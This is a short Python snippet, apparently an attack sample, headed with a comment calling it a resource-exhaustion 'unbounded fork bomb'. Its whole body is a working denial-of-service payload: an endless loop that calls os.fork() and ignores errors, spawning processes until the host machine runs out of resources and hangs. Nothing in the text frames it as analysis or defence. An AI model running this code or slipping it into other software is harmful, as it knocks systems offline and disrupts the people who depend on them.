# attack: resource exhaustion - unbounded fork bomb
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
